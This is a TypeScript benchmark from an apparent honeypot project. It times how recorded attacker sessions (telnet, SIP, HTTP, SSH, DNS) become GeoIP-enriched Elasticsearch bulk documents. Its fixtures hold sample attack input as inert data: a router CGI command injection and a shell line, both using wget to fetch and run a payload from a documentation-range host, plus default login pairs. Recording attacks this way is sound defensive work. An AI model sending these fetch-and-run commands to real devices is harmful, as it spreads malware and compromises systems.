/**
 * The search projection's CPU side, single core: recorded contact events →
 * toSearchDocument (ECS mapping + GeoIP + geohash) → bulk NDJSON (action line + document
 * line, as the client's bulk helper sends them). Elasticsearch itself is not part of it:
 * this is what honeyhole spends per document, which must stay far below what the sensor
 * produces (goal: ≥ 10× the sensor benchmark's durable event rate), so search is never
 * the bottleneck.
 *
 * Baseline, same run, same events: JSON.stringify of each raw recorded event as one
 * NDJSON line — the least any indexer of these events does. Also recorded: the RSS cost
 * of the DB-IP databases (IPv4, then IPv6) against this process before loading them.
 *
 * Events are generated in chunks (untimed) so 1M events never sit in memory at once;
 * sources are public-looking addresses used as data only, nothing is sent anywhere.
 */
import { encode as encodeDns } from "dns-packet"
import { loadavg } from "node:os"
import { makeGeoLookup, noGeo } from "../adapters/geoip/index.js"
import { requestFacts as httpRequestFacts } from "../adapters/sensor/http/facts.js"
import { answer as dnsAnswer } from "../adapters/sensor/plugins/dns/answer.js"
import { summarize } from "../adapters/sensor/payload.js"
import { FakeShell, mergeShellFacts } from "../adapters/sensor/shell/Shell.js"
import { requestFacts as sipRequestFacts } from "../adapters/sensor/sip/facts.js"
import { decode as decodeSip } from "../adapters/sensor/sip/message.js"
import { bogons, findContaining, parseRanges } from "../domain/cidr.js"
import {
  ContactClosed,
  ContactOpened,
  ContactVerified,
  CredentialsTried,
  envelope,
  PayloadReceived,
  PayloadSent,
  Position
} from "../domain/events/index.js"
import type { DomainEvent, RecordedEvent } from "../domain/events/index.js"
import { parseIp } from "../domain/ip.js"
import { searchIndexName, toSearchDocument } from "../domain/search/document.js"
import type { GeoLookup } from "../domain/search/geo.js"
import { log, Samples, stopwatch, yieldToEventLoop } from "./support/measure.js"
import type { BenchReport, Comparison } from "./support/report.js"
import { headline, versus } from "./support/report.js"
import { gc } from "../test/support/gc.js"
import { prng } from "../test/support/prng.js"

export interface SearchBenchConfig {
  readonly events: number
  readonly rounds: number
  /** distinct attacker addresses the events come from */
  readonly sources: number
}

/** bench/RESULTS.md, sensor section of 2026-11-30 18:12 (the faster of its two): UDP 11,614 packets/s × 2 events durable */
const sensorEventsPerSecond = 23_228
const goalFactor = 10


const reserved = parseRanges(bogons).ranges

/** public-looking addresses (never bogons), 1 in 10 IPv6 from 2a00::/12 (RIPE's block) */
const makeSources = (count: number, random: () => number): ReadonlyArray<string> => {
  const out: Array<string> = []
  const hex = () => Math.floor(random() * 0x10000).toString(16)
  while (out.length < count) {
    const ip =
      random() < 0.1
        ? `2a0${Math.floor(random() * 16).toString(16)}:${hex()}:${hex()}::${hex()}`
        : `${1 + Math.floor(random() * 223)}.${Math.floor(random() * 256)}.${Math.floor(random() * 256)}.${1 + Math.floor(random() * 254)}`
    const parsed = parseIp(ip)
    if (parsed !== null && findContaining(reserved, parsed) === undefined) out.push(ip)
  }
  return out
}

/** facts as the plugins write them, built once by the plugins' own fact builders */
const sampleFacts = () => {
  const invite = decodeSip(
    Buffer.from(
      "INVITE sip:00972592000000@198.51.100.10 SIP/2.0\r\nVia: SIP/2.0/UDP 192.0.2.1:5071;branch=z9hG4bK-1\r\nFrom: \"100\" <sip:100@198.51.100.10>;tag=a\r\n" +
        "To: <sip:00972592000000@198.51.100.10>\r\nCall-ID: 8f3a\r\nCSeq: 1 INVITE\r\nUser-Agent: friendly-scanner\r\nContent-Length: 0\r\n\r\n"
    )
  )
  if (!invite.ok || invite.message.kind !== "request") throw new Error("bench fixture: SIP INVITE did not decode")
  const http = httpRequestFacts({
    method: "GET",
    target: "/cgi-bin/luci/;stok=/locale?form=country&operation=write&country=$(cd%20/tmp;%20wget%20http://203.0.113.9/arm7)",
    version: "1.1",
    headers: [["Host", "198.51.100.10:80"], ["User-Agent", "Mozilla/5.0 (Windows NT 10.0; Win64; x64)"], ["Accept", "*/*"]],
    body: Buffer.alloc(0),
    bodyLength: 0,
    chunked: false
  })
  const dns = dnsAnswer(encodeDns({ type: "query", id: 7, flags: 0x0100, questions: [{ name: "sl", type: "ANY" as "A", class: "IN" }] }), {
    udpBudget: 512,
    salt: "",
    ttl: 300,
    version: null,
    nxdomain: []
  }).facts
  const shell = new FakeShell({ user: "root" }).run("cd /tmp || cd /var/run; wget http://203.0.113.9/bins.sh; chmod 777 bins.sh; sh bins.sh")
  return {
    sip: { ...sipRequestFacts(invite.message) },
    http: { ...http, status: 404, page: "not-found" },
    dns,
    telnet: { phase: "shell", ...mergeShellFacts([shell.facts!]) },
    ssh: { clientVersion: "SSH-2.0-libssh2_1.10.0", software: "libssh2_1.10.0", comments: "" }
  }
}

const logins = [["root", "admin"], ["admin", "1234"], ["root", "vizxv"]] as const

const payloadOf = (text: string) => summarize(Buffer.from(text, "latin1"), 4096)

/** One chunk of sessions in the stored form (envelope → JSON → parsed, as a store returns it). */
const makeChunk = (
  target: number,
  state: { session: number; event: number },
  sources: ReadonlyArray<string>,
  random: () => number,
  facts: ReturnType<typeof sampleFacts>
): Array<RecordedEvent> => {
  const out: Array<RecordedEvent> = []
  const t0 = Date.parse("2026-11-30T00:00:00Z")
  const banner = payloadOf("SSH-2.0-OpenSSH_9.2p1 Debian-2+deb12u3\r\n")
  const texts = {
    sip: payloadOf("INVITE sip:00972592000000@198.51.100.10 SIP/2.0\r\nVia: SIP/2.0/UDP 192.0.2.1:5071\r\nUser-Agent: friendly-scanner\r\n\r\n"),
    http: payloadOf("GET /cgi-bin/luci/;stok=/locale?form=country HTTP/1.1\r\nHost: 198.51.100.10\r\nUser-Agent: Mozilla/5.0\r\n\r\n"),
    dns: payloadOf("\u0000\u0007\u0001\u0000\u0000\u0001\u0000\u0000\u0000\u0000\u0000\u0000\u0002sl\u0000\u0000\u00ff\u0000\u0001"),
    telnet: payloadOf("cd /tmp || cd /var/run; wget http://203.0.113.9/bins.sh; chmod 777 bins.sh; sh bins.sh\r\n"),
    ssh: payloadOf("SSH-2.0-libssh2_1.10.0\r\n")
  }
  while (out.length < target) {
    const s = state.session++
    // half the sessions from 1% of the sources (the seed's few brute-forcers), half from all
    const ip = random() < 0.5 ? sources[Math.floor(random() * sources.length * 0.01)]! : sources[Math.floor(random() * sources.length)]!
    const kinds = ["telnet", "sip", "http", "ssh", "dns"] as const
    const kind = kinds[Math.floor(random() * kinds.length)]!
    const udp = kind === "sip" || kind === "dns"
    const base = { sessionId: `s-${s}`, sensor: "sensor-1", service: kind }
    const events: Array<DomainEvent> = [
      new ContactOpened({
        ...base,
        plugin: kind,
        transport: udp ? "udp" : "tcp",
        sourceIp: ip,
        sourcePort: 1024 + Math.floor(random() * 60000),
        localIp: "127.0.0.1",
        localPort: 10000 + kinds.indexOf(kind),
        publicPort: { telnet: 23, sip: 5060, http: 80, ssh: 22, dns: 53 }[kind]
      })
    ]
    if (kind === "ssh") events.push(new PayloadSent({ ...base, ...banner, facts: { banner: "SSH-2.0-OpenSSH_9.2p1" } }))
    events.push(new PayloadReceived({ ...base, ...texts[kind], facts: facts[kind] }))
    if (kind === "telnet" || kind === "ssh") {
      for (const [username, password] of logins.slice(0, 1 + Math.floor(random() * 3))) {
        events.push(new CredentialsTried({ ...base, username, password, method: "password" }))
      }
    } else events.push(new PayloadSent({ ...base, ...banner, facts: {} }))
    if (kind === "sip" && random() < 0.3) events.push(new ContactVerified({ ...base, transport: "udp", proof: "sip-nonce-echo" }))
    events.push(new ContactClosed({ ...base, durationMs: Math.floor(random() * 30_000), bytesIn: 300, bytesOut: 120, reason: udp ? "idle-timeout" : "closed" }))
    const stream = `attacker-${ip}`
    events.forEach((event, revision) => {
      const n = state.event++
      const id = `00000000-0000-4000-8000-${n.toString(16).padStart(12, "0")}`
      const stored = JSON.parse(JSON.stringify(envelope(event, { eventId: id, at: new Date(t0 + n * 50) })))
      out.push({ stream, revision, position: Position(String(n)), eventId: id, type: stored.type, data: stored.data, metadata: stored.metadata })
    })
  }
  return out
}

/** what the bulk helper puts on the wire per document: action line + document line */
const bulkBytes = (events: ReadonlyArray<RecordedEvent>, geo: GeoLookup): number => {
  let bytes = 0
  for (const event of events) {
    const doc = toSearchDocument(event, geo)
    if (doc === null) continue
    const action = JSON.stringify({ index: { _index: searchIndexName("honeyhole-events", doc["@timestamp"]), _id: event.eventId } })
    bytes += action.length + JSON.stringify(doc).length + 2
  }
  return bytes
}

const rawBytes = (events: ReadonlyArray<RecordedEvent>): number => {
  let bytes = 0
  for (const event of events) bytes += JSON.stringify(event).length + 1
  return bytes
}

const rssMiB = () => {
  gc()
  gc()
  return process.memoryUsage().rss / 2 ** 20
}

export const runSearchBench = async (config: SearchBenchConfig): Promise<BenchReport> => {
  log(`search: ${config.events.toLocaleString("en-US")} events × ${config.rounds} rounds, ${config.sources.toLocaleString("en-US")} sources`)
  const random = prng(11)
  const sources = makeSources(config.sources, random)
  const facts = sampleFacts()

  // RSS of the databases, loaded the way the projection loads them: on the first lookup of each family
  const before = rssMiB()
  const geo = makeGeoLookup({ cityDb: null })
  let t = stopwatch()
  geo.lookup("81.33.1.1")
  const v4Ms = t().ms
  const afterV4 = rssMiB()
  t = stopwatch()
  geo.lookup("2a00:1450:4003:80e::200e")
  const v6Ms = t().ms
  const afterV6 = rssMiB()

  const variants = {
    baseline: new Samples(),
    search: new Samples(),
    uncached: new Samples(),
    noGeo: new Samples()
  }
  const uncachedGeo = makeGeoLookup({ cityDb: null, cacheSize: 0 })
  uncachedGeo.lookup("81.33.1.1")
  uncachedGeo.lookup("2a00:1450:4003:80e::200e")
  const work: Record<keyof typeof variants, (events: ReadonlyArray<RecordedEvent>) => number> = {
    baseline: rawBytes,
    search: (events) => bulkBytes(events, geo),
    uncached: (events) => bulkBytes(events, uncachedGeo),
    noGeo: (events) => bulkBytes(events, noGeo)
  }
  const chunkSize = 50_000
  let bulkTotal = 0
  let rawTotal = 0
  let documents = 0
  for (let round = 0; round < config.rounds; round++) {
    const totals = { baseline: { ms: 0, cpuMs: 0, processCpuMs: 0 }, search: { ms: 0, cpuMs: 0, processCpuMs: 0 }, uncached: { ms: 0, cpuMs: 0, processCpuMs: 0 }, noGeo: { ms: 0, cpuMs: 0, processCpuMs: 0 } }
    // the same events every round (same seed), chunk by chunk; every variant sees each chunk, in rotating order
    const chunkRandom = prng(101)
    const state = { session: 0, event: 0 }
    let done = 0
    let chunkIndex = 0
    while (done < config.events) {
      const chunk = makeChunk(Math.min(chunkSize, config.events - done), state, sources, chunkRandom, facts).slice(0, config.events - done)
      done += chunk.length
      await yieldToEventLoop()
      const offset = chunkIndex++
      const order = (Object.keys(variants) as Array<keyof typeof variants>).map((_, i, all) => all[(i + offset) % all.length]!)
      for (const name of order) {
        const elapsed = stopwatch()
        const bytes = work[name](chunk)
        const e = elapsed()
        totals[name].ms += e.ms
        totals[name].cpuMs += e.cpuMs
        totals[name].processCpuMs += e.processCpuMs
        if (round === 0 && name === "search") {
          bulkTotal += bytes
          documents += chunk.length
        }
        if (round === 0 && name === "baseline") rawTotal += bytes
      }
    }
    for (const name of Object.keys(variants) as Array<keyof typeof variants>) variants[name].push(totals[name])
    log(`  round ${round + 1}: search ${totals.search.ms.toFixed(0)} ms, baseline ${totals.baseline.ms.toFixed(0)} ms`)
  }

  const subjectBase = "recorded contact events → toSearchDocument (ECS, GeoIP from the bundled DB-IP lite files, geohash) → bulk NDJSON (index action with dated index and _id + document)"
  const comparisons: Array<Comparison> = [
    {
      name: "search documents, GeoIP + geohash, LRU 10k (default)",
      subject: `${subjectBase}, single core`,
      baseline: "JSON.stringify of each raw recorded event as one NDJSON line, same events",
      items: config.events,
      ...versus(variants.search, variants.baseline)
    },
    {
      name: "same, GeoIP cache off",
      subject: `${subjectBase}, every lookup in the mmdb`,
      baseline: "the same JSON.stringify baseline",
      items: config.events,
      ...versus(variants.uncached, variants.baseline)
    },
    {
      name: "same, no GeoIP (GeoIp.none)",
      subject: "toSearchDocument without geo → bulk NDJSON",
      baseline: "the same JSON.stringify baseline",
      items: config.events,
      ...versus(variants.noGeo, variants.baseline)
    }
  ]
  const perSecond = (config.events / Math.min(...variants.search.ms)) * 1000
  // per core = per second of the JS thread's own CPU: what the rate would be with a core to itself
  const perCpuSecond = (config.events / Math.min(...variants.search.cpuMs)) * 1000
  const goal = sensorEventsPerSecond * goalFactor
  const baselinePerSecond = (config.events / Math.min(...variants.baseline.ms)) * 1000
  const rate = (n: number) => Math.round(n).toLocaleString("en-US")
  const judged = (n: number) => `${rate(n)} documents/s = ${(n / sensorEventsPerSecond).toFixed(0)}× the sensor's rate ${n >= goal ? "✅" : "❌"}`
  return {
    title: "Search documents: enrichment + bulk serialization per core, and the GeoIP databases' memory",
    comparisons,
    notes: [
      `**goal: ≥ ${goalFactor}× the sensor's durable rate of ~${sensorEventsPerSecond.toLocaleString("en-US")} events/s = ${rate(goal)} documents/s per core** (sensor section of 2026-11-30 18:12: UDP 11,614 packets/s × 2 events, the faster of its TCP and UDP rates; not re-run here, it takes minutes of both cores). GeoIP + geohash + ECS + bulk NDJSON, best round, one core: wall time **${judged(perSecond)}**; JS-thread CPU time **${judged(perCpuSecond)}** (wall time is inflated when the machine is shared: see the load average)`,
      `same-run baseline: ${Math.round(baselinePerSecond).toLocaleString("en-US")} raw events/s serialized; search costs ${headline(comparisons[0]!).toFixed(2)}× that, of which GeoIP + geohash ${(Math.min(...variants.search.ms) / Math.min(...variants.noGeo.ms)).toFixed(2)}× over no geo; the cache makes lookups ${(Math.min(...variants.uncached.ms) / Math.min(...variants.search.ms)).toFixed(2)}× cheaper end to end`,
      `events: ${config.events.toLocaleString("en-US")} per round from ${config.sources.toLocaleString("en-US")} public-looking sources (10 % IPv6 in 2a00::/12; half the sessions from 1 % of the sources), sessions telnet/sip/http/ssh/dns of 4–7 events with the plugins' own facts (SIP INVITE, HTTP exploit, DNS ANY, BusyBox shell, ssh client version), all six contact event types; generated in chunks of ${chunkSize.toLocaleString("en-US")} (untimed), each chunk timed under every variant in rotating order`,
      `bulk body: ${(bulkTotal / documents).toFixed(0)} bytes per document (action + document), vs ${(rawTotal / documents).toFixed(0)} bytes per raw event line`,
      `1-min load average at the end ${loadavg()[0]!.toFixed(2)} (2 cores shared with other engineers' work)`,
      `GeoIP memory (RSS after two gc(), this process): ${before.toFixed(1)} MiB before → ${afterV4.toFixed(1)} MiB with the IPv4 file (+${(afterV4 - before).toFixed(1)} MiB, opened in ${v4Ms.toFixed(0)} ms on the first IPv4 lookup) → ${afterV6.toFixed(1)} MiB with IPv6 too (+${(afterV6 - afterV4).toFixed(1)} MiB, ${v6Ms.toFixed(0)} ms); ratio with/without both: ${(afterV6 / before).toFixed(2)}×`
    ]
  }
}
